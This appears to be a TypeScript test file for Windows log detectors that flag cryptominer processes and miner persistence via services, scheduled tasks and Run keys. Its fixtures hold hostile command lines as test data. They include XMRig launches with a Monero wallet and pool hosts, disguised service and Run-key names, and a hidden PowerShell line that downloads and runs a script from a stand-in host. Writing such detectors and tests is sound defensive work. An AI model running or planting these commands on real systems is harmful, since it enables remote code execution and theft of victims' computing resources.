/**
 * The built-in host detectors on Windows events read from EVTX: miner processes with backslash paths and
 * .exe names, and persistence (service installed, scheduled task created, Run key set).
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { parseWith, runDetector } from "../../test-helpers/index.js";
import { minerProcessDetector } from "../../detect/detectors/host/miner-process.js";
import { persistenceDetector } from "../../detect/detectors/host/persistence.js";
import { evtxSource } from "./evtx-source.js";
import { buildEvtx, sysmonEvent, type BuildEvent, type BuildValue } from "./test-helpers/evtx-builder.js";

const T0 = new Date("2026-11-20T03:14:07Z");
const WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

function processCreate(image: string, commandLine: string): BuildEvent {
  return sysmonEvent(1, "WS-FIN-07", T0, [["RuleName", "-"], ["ProcessId", { type: "uint32", value: 6012 }], ["Image", image], ["CommandLine", commandLine],
    ["User", "WS-FIN-07\\alice"], ["ParentImage", "C:\\Windows\\explorer.exe"]]);
}

async function eventsOf(events: BuildEvent[]) {
  const r = await parseWith(evtxSource, buildEvtx(events), "win.evtx");
  assert.deepEqual(r.issues, []);
  return r.events;
}

test("an XMRig started from AppData with pool and wallet is a miner process (backslash path, .exe)", async () => {
  const exe = "C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Windows\\xmrig.exe";
  const events = await eventsOf([processCreate(exe, `"${exe}" -o pool.supportxmr.com:3333 -u ${WALLET} -p x -k`)]);
  const [f] = runDetector(minerProcessDetector, events);
  assert.ok(f, "a finding");
  assert.ok(f.confidence >= 0.9, `confidence ${f.confidence}`);
  assert.match(f.title, /xmrig miner running as "xmrig\.exe" on ws-fin-07/i);
  assert.ok(f.observables.some((o) => o.type === "wallet" && o.value === WALLET));
  assert.ok(f.observables.some((o) => o.type === "domain" && o.value === "pool.supportxmr.com"));
});

test("Windows GPU miners are known by their .exe names; a bare generic miner.exe is not", async () => {
  const named = ["t-rex.exe", "PhoenixMiner.exe", "nbminer.exe", "lolMiner.exe", "nheqminer.exe", "gminer.exe", "TeamRedMiner.exe"];
  for (const exe of named) {
    const events = await eventsOf([processCreate(`D:\\rigs\\${exe}`, exe)]);
    assert.equal(runDetector(minerProcessDetector, events).length, 1, exe);
  }
  // GMiner ships as "miner.exe": too generic to judge by name. Its pool arguments still tell.
  assert.equal(runDetector(minerProcessDetector, await eventsOf([processCreate("C:\\Tools\\miner.exe", "miner.exe --help")])).length, 0);
  const withPool = await eventsOf([processCreate("C:\\Tools\\miner.exe", "miner.exe --algo ethash --server stratum+tcp://eth.2miners.com:2020 --user 0xabc")]);
  assert.equal(runDetector(minerProcessDetector, withPool).length, 1);
});

function security4698(taskName: string, command: string, args: string): BuildEvent {
  const content = `<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><TimeTrigger><Repetition><Interval>PT120M</Interval></Repetition><StartBoundary>2026-11-20T03:14:00</StartBoundary></TimeTrigger></Triggers><Actions Context="Author"><Exec><Command>${command}</Command><Arguments>${args}</Arguments></Exec></Actions></Task>`;
  return { provider: "Microsoft-Windows-Security-Auditing", providerGuid: "{54849625-5478-4994-A5BA-3E3B0328C30D}", eventId: 4698, channel: "Security",
    computer: "WS-FIN-07", time: T0, data: [["SubjectUserSid", { type: "sid", value: "S-1-5-18" }], ["SubjectUserName", "WS-FIN-07$"], ["SubjectDomainName", "CORP"],
      ["SubjectLogonId", { type: "hex64", value: 0x3e7n }], ["TaskName", taskName], ["TaskContent", content]] };
}

function system7045(name: string, imagePath: string): BuildEvent {
  return { provider: "Service Control Manager", providerGuid: "{555908D1-A6D7-4695-8E1E-26931D2012F4}", eventId: 7045, channel: "System", computer: "WS-FIN-07",
    time: T0, data: [["ServiceName", name], ["ImagePath", imagePath], ["ServiceType", "user mode service"], ["StartType", "auto start"], ["AccountName", "LocalSystem"]] };
}

function runKey(path: string, details: string): BuildEvent {
  const data: [string, BuildValue][] = [["RuleName", "T1060,RunKey"], ["EventType", "SetValue"], ["ProcessId", { type: "uint32", value: 6012 }],
    ["Image", "C:\\Windows\\System32\\reg.exe"], ["TargetObject", path], ["Details", details], ["User", "WS-FIN-07\\alice"]];
  return sysmonEvent(13, "WS-FIN-07", T0, data);
}

test("persistence: a service, a scheduled task or a Run key that starts a miner; LemonDuck's task names; WinRing0 only supports", async () => {
  const miner = `C:\\ProgramData\\svc\\xmrig.exe -o pool.minexmr.com:4444 -u ${WALLET}`;
  const events = await eventsOf([
    system7045("WinSvcHost", miner),
    security4698("\\Microsoft\\Windows\\blackball", "powershell", "-w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://t.example/a.jsp')\""),
    security4698("\\UpdateCheck", "C:\\ProgramData\\svc\\xmrig.exe", `-o pool.minexmr.com:4444 -u ${WALLET} --donate-level=1`),
    runKey("HKU\\S-1-5-21-1-2-3-1000\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WinUpdate", miner),
    runKey("HKLM\\SOFTWARE\\Vendor\\Settings\\Path", miner),
    system7045("WinRing0_1_2_0", "C:\\ProgramData\\svc\\WinRing0x64.sys"),
  ]);
  assert.equal(events[1]!["process.command_line"], "powershell -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://t.example/a.jsp')\"");
  const findings = runDetector(persistenceDetector, events);
  const by = (kind: string) => findings.filter((f) => f.facts?.["persistence.kind"] === kind);
  assert.equal(by("windows-service").length, 2);
  assert.equal(by("scheduled-task").length, 2);
  assert.equal(by("registry-run-key").length, 1, "only the Run key, not a vendor setting");
  const service = by("windows-service").find((f) => String(f.facts?.["persistence.reason"]).includes("xmrig"));
  assert.ok(service && service.confidence >= 0.9);
  assert.ok(service.mitre?.includes("T1543.003"));
  const lemon = by("scheduled-task").find((f) => String(f.facts?.["persistence.reason"]).includes("LemonDuck"));
  assert.ok(lemon, "the blackball task");
  assert.equal(lemon.confidence, 0.75);
  const ring0 = by("windows-service").find((f) => String(f.facts?.["persistence.reason"]).includes("WinRing0"));
  assert.ok(ring0);
  assert.ok(ring0.confidence < 0.4, "weak: never opens an incident alone");
});
